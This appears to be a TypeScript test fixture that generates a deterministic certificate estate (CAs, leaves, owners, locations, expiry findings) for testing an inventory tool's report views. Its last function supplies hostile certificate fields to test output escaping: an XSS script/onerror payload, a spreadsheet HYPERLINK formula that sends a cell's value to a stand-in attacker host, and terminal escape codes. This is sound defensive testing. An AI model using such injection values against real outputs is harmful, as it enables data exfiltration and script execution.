// A generated certificate estate, built directly as a Report (the inventory
// views read only the report, so no real certificates are needed): a few
// hundred leaves from several CAs and owners, in files and behind endpoints,
// with the intermediates and roots that chains and bundles carry. Seeded, so
// every run sees the same estate; the generator keeps its own record of what
// it chose (`truth`) so tests compare the views against intent, not against a
// second copy of the code under test.
import { createHash } from 'node:crypto';
import type { KeyInfo, Location } from '../../../src/types.js';
import type { Report, ReportCertificate, ReportFinding } from '../../../src/report/report-types.js';
import { summarize } from '../../../src/report/build-report.js';
import { DAY, NOW } from '../../helpers/clock.js';
import { cert, finding, report } from '../../helpers/report-factory.js';

/** mulberry32: tiny, fast, good enough to scatter test data deterministically. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export function fingerprintOf(seed: string): string {
  return 'sha256:' + createHash('sha256').update(seed).digest('hex');
}

interface CaSpec {
  id: string;
  subject: string;
  cn: string;
  o: string | null;
  label: string; // what the inventory should call it
  issuer: string; // DN of its own issuer
  issuerCN: string | null;
  issuerO: string | null;
  rootLabel: string; // what the "by root" grouping should say for certificates it issues
  inReport: boolean;
  role: 'root' | 'intermediate';
  lifetimeDays: number; // for the leaves it issues
  keys: KeyInfo[];
  weight: number;
}

const ISRG_X1 = 'CN=ISRG Root X1,O=Internet Security Research Group,C=US';
const ISRG_X2 = 'CN=ISRG Root X2,O=Internet Security Research Group,C=US';
const DIGICERT_ROOT = 'CN=DigiCert Global Root G2,OU=www.digicert.com,O=DigiCert Inc,C=US';
const USERTRUST = 'CN=USERTrust RSA Certification Authority,O=The USERTRUST Network,L=Jersey City,ST=New Jersey,C=US';
// The parser joins Node's DN lines with commas without escaping, so an O with a comma arrives like this.
const EXAMPLE_ROOT = 'CN=Example Root CA,O=Example, Inc.,C=US';

const EC256: KeyInfo = { algorithm: 'ECDSA', size: 256, curve: 'P-256' };
const EC384: KeyInfo = { algorithm: 'ECDSA', size: 384, curve: 'P-384' };
const RSA2048: KeyInfo = { algorithm: 'RSA', size: 2048 };
const RSA4096: KeyInfo = { algorithm: 'RSA', size: 4096 };

export const CAS: CaSpec[] = [
  {
    id: 'isrg-x1',
    subject: ISRG_X1,
    cn: 'ISRG Root X1',
    o: 'Internet Security Research Group',
    label: 'ISRG Root X1 (Internet Security Research Group)',
    issuer: ISRG_X1,
    issuerCN: 'ISRG Root X1',
    issuerO: 'Internet Security Research Group',
    rootLabel: 'ISRG Root X1 (Internet Security Research Group)',
    inReport: true,
    role: 'root',
    lifetimeDays: 0,
    keys: [],
    weight: 0,
  },
  {
    id: 'r11',
    subject: "CN=R11,O=Let's Encrypt,C=US",
    cn: 'R11',
    o: "Let's Encrypt",
    label: "R11 (Let's Encrypt)",
    issuer: ISRG_X1,
    issuerCN: 'ISRG Root X1',
    issuerO: 'Internet Security Research Group',
    rootLabel: 'ISRG Root X1 (Internet Security Research Group)',
    inReport: true,
    role: 'intermediate',
    lifetimeDays: 90,
    keys: [RSA2048],
    weight: 4,
  },
  // E6's root (ISRG Root X2) is never served in this estate: "(root not seen)".
  {
    id: 'e6',
    subject: "CN=E6,O=Let's Encrypt,C=US",
    cn: 'E6',
    o: "Let's Encrypt",
    label: "E6 (Let's Encrypt)",
    issuer: ISRG_X2,
    issuerCN: 'ISRG Root X2',
    issuerO: 'Internet Security Research Group',
    rootLabel: 'ISRG Root X2 (Internet Security Research Group) (root not seen)',
    inReport: true,
    role: 'intermediate',
    lifetimeDays: 90,
    keys: [EC256, EC384],
    weight: 3,
  },
  {
    id: 'digicert-root',
    subject: DIGICERT_ROOT,
    cn: 'DigiCert Global Root G2',
    o: 'DigiCert Inc',
    label: 'DigiCert Global Root G2 (DigiCert Inc)',
    issuer: DIGICERT_ROOT,
    issuerCN: 'DigiCert Global Root G2',
    issuerO: 'DigiCert Inc',
    rootLabel: 'DigiCert Global Root G2 (DigiCert Inc)',
    inReport: true,
    role: 'root',
    lifetimeDays: 0,
    keys: [],
    weight: 0,
  },
  {
    id: 'digicert',
    subject: 'CN=DigiCert Global G2 TLS RSA SHA256 2020 CA1,O=DigiCert Inc,C=US',
    cn: 'DigiCert Global G2 TLS RSA SHA256 2020 CA1',
    o: 'DigiCert Inc',
    label: 'DigiCert Global G2 TLS RSA SHA256 2020 CA1 (DigiCert Inc)',
    issuer: DIGICERT_ROOT,
    issuerCN: 'DigiCert Global Root G2',
    issuerO: 'DigiCert Inc',
    rootLabel: 'DigiCert Global Root G2 (DigiCert Inc)',
    inReport: true,
    role: 'intermediate',
    lifetimeDays: 199,
    keys: [RSA2048, EC256],
    weight: 2,
  },
  // Sectigo's intermediate is never in the report either: leaves' root is their issuer, "(root not seen)".
  {
    id: 'sectigo',
    subject: 'CN=Sectigo RSA Domain Validation Secure Server CA,O=Sectigo Limited,L=Salford,ST=Greater Manchester,C=GB',
    cn: 'Sectigo RSA Domain Validation Secure Server CA',
    o: 'Sectigo Limited',
    label: 'Sectigo RSA Domain Validation Secure Server CA (Sectigo Limited)',
    issuer: USERTRUST,
    issuerCN: 'USERTrust RSA Certification Authority',
    issuerO: 'The USERTRUST Network',
    rootLabel: 'Sectigo RSA Domain Validation Secure Server CA (Sectigo Limited) (root not seen)',
    inReport: false,
    role: 'intermediate',
    lifetimeDays: 199,
    keys: [RSA2048],
    weight: 1,
  },
  {
    id: 'example-root',
    subject: EXAMPLE_ROOT,
    cn: 'Example Root CA',
    o: 'Example, Inc.',
    label: 'Example Root CA (Example, Inc.)',
    issuer: EXAMPLE_ROOT,
    issuerCN: 'Example Root CA',
    issuerO: 'Example, Inc.',
    rootLabel: 'Example Root CA (Example, Inc.)',
    inReport: true,
    role: 'root',
    lifetimeDays: 0,
    keys: [],
    weight: 0,
  },
  // A private CA whose CN already contains its organisation's name: the label is the CN alone.
  {
    id: 'example',
    subject: 'CN=Example, Inc. Issuing CA 1,O=Example, Inc.,C=US',
    cn: 'Example, Inc. Issuing CA 1',
    o: 'Example, Inc.',
    label: 'Example, Inc. Issuing CA 1',
    issuer: EXAMPLE_ROOT,
    issuerCN: 'Example Root CA',
    issuerO: 'Example, Inc.',
    rootLabel: 'Example Root CA (Example, Inc.)',
    inReport: true,
    role: 'intermediate',
    lifetimeDays: 365,
    keys: [EC256, RSA4096],
    weight: 2,
  },
];

export const OWNERS = ['@acme/web', '@acme/mail', '@acme/platform', '@acme/payments', null] as const;

export interface LeafTruth {
  fingerprint: string;
  ca: string; // CaSpec.id
  caLabel: string;
  rootLabel: string;
  owner: string | null;
  key: string; // expected key label
}

export interface Estate {
  report: Report;
  truth: Map<string, LeafTruth>; // by fingerprint, leaves only
}

export interface EstateOptions {
  seed?: number;
  leaves?: number;
  now?: Date; // the clock findings are judged at (a forecast moves it)
}

function hexSerial(rand: () => number, bytes: number): string {
  let s = '';
  for (let i = 0; i < bytes; i++)
    s += Math.floor(rand() * 256)
      .toString(16)
      .padStart(2, '0');
  // As the parser prints serials: uppercase hex of the value, no leading zeros.
  return s.toUpperCase().replace(/^0+(?=.)/, '');
}

/** The expiry findings a run would make with the default thresholds (warn 30d, fail 7d). */
export function expiryFindings(notBefore: Date, notAfter: Date, now: Date): ReportFinding[] {
  const left = notAfter.getTime() - now.getTime();
  if (now.getTime() < notBefore.getTime()) return [finding('not-yet-valid', 'error', { message: 'not valid yet' })];
  if (left <= 0) return [finding('expired', 'error', { message: `expired ${notAfter.toISOString()}` })];
  if (left < 7 * DAY) return [finding('expiring', 'error', { message: `expires in ${Math.floor(left / DAY)} days` })];
  if (left < 30 * DAY)
    return [finding('expiring', 'warning', { message: `expires in ${Math.floor(left / DAY)} days` })];
  return [];
}

export function makeCert(p: {
  fingerprint: string;
  subjectCN: string;
  subject?: string;
  sans?: string[];
  issuer: CaSpec | { subject: string; cn: string | null; o: string | null };
  serial: string;
  notBefore: Date;
  notAfter: Date;
  key?: KeyInfo;
  locations: Location[];
  owner: string | null;
  role?: 'leaf' | 'intermediate' | 'root';
  now: Date;
  extraFindings?: ReportFinding[];
}): ReportCertificate {
  const issuerDn = 'subject' in p.issuer ? p.issuer.subject : '';
  const role = p.role ?? 'leaf';
  return {
    ...cert({ cn: p.subjectCN }),
    fingerprint: p.fingerprint,
    subject: p.subject ?? `CN=${p.subjectCN}`,
    issuer: issuerDn,
    serialNumber: p.serial,
    notBefore: p.notBefore.toISOString(),
    notAfter: p.notAfter.toISOString(),
    sans: p.sans ?? (role === 'leaf' ? [p.subjectCN] : []),
    key: p.key ?? EC256,
    locations: p.locations,
    owner: p.owner,
    role,
    isCA: role !== 'leaf',
    issuerCN: 'cn' in p.issuer ? p.issuer.cn : null,
    issuerO: 'o' in p.issuer ? p.issuer.o : null,
    findings: [...(p.extraFindings ?? []), ...expiryFindings(p.notBefore, p.notAfter, p.now)],
  };
}

function keyLabelOf(k: KeyInfo): string {
  return k.curve ? `${k.algorithm} ${k.curve}` : `${k.algorithm} ${k.size}`;
}

/** A report with no certificates yet, as a run at `now` would write it. */
export function emptyReport(now: Date = NOW): Report {
  return report([], { now: now.toISOString() });
}

export function generateEstate(opts: EstateOptions = {}): Estate {
  const rand = prng(opts.seed ?? 20261122);
  const now = opts.now ?? NOW;
  const leaves = opts.leaves ?? 300;
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)];
  const issuing = CAS.filter((c) => c.weight > 0);
  const weighted = issuing.flatMap((c) => Array<CaSpec>(c.weight).fill(c));
  const report = emptyReport(NOW);
  report.run.now = now.toISOString();
  const truth = new Map<string, LeafTruth>();
  // Served chains put each intermediate at chainIndex 1 of the endpoints that use it.
  const chainPlaces = new Map<string, Location[]>();

  for (let i = 0; i < leaves; i++) {
    const ca = pick(weighted);
    const owner = pick(OWNERS);
    const key = pick(ca.keys);
    const host = `host-${String(i).padStart(3, '0')}.${owner ? owner.slice(6) : 'misc'}.example.com`;
    // Mostly current certificates; some already expired, some long-lived private ones.
    const decommissioned = i % 97 === 5; // expired, and its expiry ignored (see below)
    const ageDays = decommissioned
      ? ca.lifetimeDays + 5 + Math.floor(rand() * 3)
      : Math.floor(rand() * (ca.lifetimeDays + 20));
    const notBefore = new Date(NOW.getTime() - ageDays * DAY - Math.floor(rand() * DAY));
    const notAfter = new Date(notBefore.getTime() + ca.lifetimeDays * DAY);
    const where = rand();
    const locations: Location[] = [];
    const inFile = where < 0.4 || where >= 0.75;
    const served = where >= 0.4;
    if (inFile) locations.push({ type: 'file', path: `certs/${owner ? owner.slice(6) : 'misc'}/${host}.pem`, line: 1 });
    if (served) {
      const addresses = rand() < 0.15 ? 2 : 1; // some names resolve to two addresses, both serving this certificate
      for (let a = 0; a < addresses; a++) {
        locations.push({
          type: 'endpoint',
          host,
          port: 443,
          address: `10.${i % 200}.${a}.${(i * 7) % 250}`,
          servername: host,
          protocol: 'https',
          chainIndex: 0,
        });
        const places = chainPlaces.get(ca.id) ?? [];
        places.push({
          type: 'endpoint',
          host,
          port: 443,
          address: `10.${i % 200}.${a}.${(i * 7) % 250}`,
          servername: host,
          protocol: 'https',
          chainIndex: 1,
        });
        chainPlaces.set(ca.id, places);
      }
    }
    const fingerprint = fingerprintOf(`leaf-${opts.seed ?? 0}-${i}`);
    const extra: ReportFinding[] = [];
    const r = rand();
    if (r < 0.02) extra.push(finding('revoked', 'error', { message: 'revoked (keyCompromise) at 2026-11-01' }));
    else if (r < 0.04)
      extra.push({
        id: 'weak-key',
        severity: 'warning',
        message: 'weak key',
        ignored: { reason: 'legacy device', until: '2027-06-30' },
      });
    const cert = makeCert({
      fingerprint,
      subjectCN: host,
      sans: [host, `www.${host}`],
      issuer: ca,
      serial: hexSerial(rand, 16),
      notBefore,
      notAfter,
      key,
      locations,
      owner,
      now,
      extraFindings: extra,
    });
    // An ignored expiry: someone decided a decommissioned certificate may stay expired for now.
    if (decommissioned)
      cert.findings = cert.findings.map((f) =>
        f.severity === 'error' ? { ...f, ignored: { reason: 'decommissioned' } } : f,
      );
    report.certificates.push(cert);
    truth.set(fingerprint, {
      fingerprint,
      ca: ca.id,
      caLabel: ca.label,
      rootLabel: ca.rootLabel,
      owner,
      key: keyLabelOf(key),
    });
  }

  // The CA certificates the estate carries: intermediates from served chains, roots from one trust bundle file.
  for (const ca of CAS) {
    if (!ca.inReport) continue;
    const bundle: Location = {
      type: 'file',
      path: `certs/trust/${ca.role === 'root' ? 'roots' : 'intermediates'}.pem`,
      line: 1 + CAS.indexOf(ca) * 30,
    };
    const served = chainPlaces.get(ca.id) ?? [];
    const locations: Location[] = ca.role === 'root' || served.length === 0 ? [bundle] : served;
    const parent = CAS.find((p) => p.subject === ca.issuer);
    report.certificates.push(
      makeCert({
        fingerprint: fingerprintOf(`ca-${ca.id}`),
        subjectCN: ca.cn,
        subject: ca.subject,
        issuer: parent ?? { subject: ca.issuer, cn: ca.issuerCN, o: ca.issuerO },
        serial: hexSerial(rand, 16),
        notBefore: new Date('2024-03-13T00:00:00Z'),
        notAfter: new Date(ca.role === 'root' ? '2035-06-04T11:04:38Z' : '2027-03-12T23:59:59Z'),
        key: RSA4096,
        locations,
        owner: null,
        role: ca.role,
        now,
      }),
    );
  }
  report.summary = summarize(report.certificates, report.problems);
  return { report, truth };
}

/**
 * Certificates whose text is hostile to every output format: markup, table
 * pipes, CSV quotes and formulas, iCalendar separators, long non-ASCII names,
 * terminal escapes. Names and subjects come from whoever made the certificate.
 */
export function hostileCertificates(now: Date = NOW): ReportCertificate[] {
  const ca = CAS.find((c) => c.id === 'example')!;
  const base = {
    issuer: ca,
    serial: '0BADC0DE',
    notBefore: new Date(now.getTime() - 30 * DAY),
    notAfter: new Date(now.getTime() + 20 * DAY),
    now,
  };
  return [
    makeCert({
      ...base,
      fingerprint: fingerprintOf('hostile-script'),
      subjectCN: '<script>document.title="pwned"</script><img src=x onerror=alert(1)>',
      subject: 'CN=<script>document.title="pwned"</script><img src=x onerror=alert(1)>,O=Evil "Quotes" & Co',
      sans: ['evil.example.com'],
      locations: [{ type: 'file', path: 'certs/a|b,"c".pem', line: 7 }],
      owner: '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    }),
    makeCert({
      ...base,
      fingerprint: fingerprintOf('hostile-text'),
      subjectCN: 'pipe|name; semi, comma \\ back\nnewline',
      sans: ['pipe.example.com'],
      locations: [
        {
          type: 'endpoint',
          host: 'pipe.example.com',
          port: 8443,
          address: '192.0.2.77',
          servername: 'pipe.example.com',
          protocol: 'tls',
          chainIndex: 0,
        },
      ],
      owner: '+team|ops',
    }),
    makeCert({
      ...base,
      fingerprint: fingerprintOf('hostile-unicode'),
      subjectCN: 'zertifikat-für-größe-überprüfung-ünïcödé-ßßßß-€€€€-日本語のドメイン名.example.jp',
      sans: ['xn--example.jp'],
      locations: [{ type: 'file', path: 'certs/ü.pem', line: 1 }],
      owner: '-sre \u001b[31mred\u001b[0m',
    }),
  ];
}
